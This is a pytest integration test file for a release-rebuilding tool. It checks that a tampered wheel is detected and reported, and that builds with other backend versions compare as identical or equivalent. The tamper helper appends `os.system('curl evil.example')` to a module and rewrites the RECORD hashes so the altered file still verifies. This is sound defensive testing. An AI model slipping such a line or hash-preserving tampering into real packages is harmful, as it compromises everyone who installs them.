"""Real releases of a small project, built again: as they are, tampered with, and by other versions of the backend."""

from __future__ import annotations

import shutil
import zipfile
from typing import TYPE_CHECKING

import pytest

from tests.archives import digest
from tests.integration.test_release import SDIST, WHEEL
from tests.projects import git

if TYPE_CHECKING:
    from pathlib import Path

    from tests.integration.conftest import Indexes, Project

MODULE, RECORD = "demo/__init__.py", "demo-1.0.dist-info/RECORD"
LINE = b"import os; os.system('curl evil.example')\n"


def release(project: Project, indexes: Indexes) -> Path:
    """Put the files that `build` makes of a tag on the index as they are, and return where they lie there."""
    git(project.root, "tag", "v1.0")
    assert project.step("build").code == 0
    for path in project.dist.iterdir():
        shutil.copy(path, indexes.folder / "pypi" / path.name)
    return indexes.folder / "pypi"


def tamper(wheel: Path) -> None:
    """Add a line to a module of `wheel`, so that RECORD holds."""
    with zipfile.ZipFile(wheel) as archive:
        members = [(info, archive.read(info)) for info in archive.infolist()]
    before = next(raw for info, raw in members if info.filename == MODULE)
    after = before + LINE
    rows = {f"sha256={digest(before)},{len(before)}": f"sha256={digest(after)},{len(after)}"}
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, raw in members:
            text = raw
            for old, new in rows.items() if info.filename == RECORD else ():
                text = text.replace(old.encode(), new.encode())
            archive.writestr(info, after if info.filename == MODULE else text)


@pytest.mark.slow
def test_a_tampered_release_is_different_and_names_module_and_line(project: Project, indexes: Indexes) -> None:
    served = release(project, indexes)
    tamper(served / WHEEL)
    ended = project.step("rebuild", "1.0")
    assert ended.code == 1
    assert ended.shows(f"different {WHEEL}", f"{MODULE}: text", f"+{LINE.decode().strip()}", f"identical {SDIST}")
    (wheel,) = (file for file in project.stage("rebuilt.json")["files"] if file["filename"] == WHEEL)
    assert next(one["member"] for one in wheel["differences"] if one["matters"]) == MODULE
    assert project.step("status").code == 0
    report = (project.record / "report.html").read_text(encoding="utf-8")
    assert "Built again" in report
    assert "curl evil.example" in report


@pytest.mark.slow
def test_the_version_of_the_backend_alone_is_identical_as_of_then_and_equivalent_otherwise(
    project: Project, indexes: Indexes
) -> None:
    release(project, indexes)
    (project.record / "built.json").unlink()
    then = project.step("rebuild", "1.0")
    assert then.code == 0, then.output
    assert then.shows("v1.0: identical, with flit", "requirements as of")
    earlier = project.step("rebuild", "1.0", "--as-of", "2025-04-01")
    assert earlier.code == 0, earlier.output
    assert earlier.shows(
        "v1.0: equivalent, with flit 3.12.0 and requirements as of 2025-04-01", "WHEEL: metadata, means the same"
    )
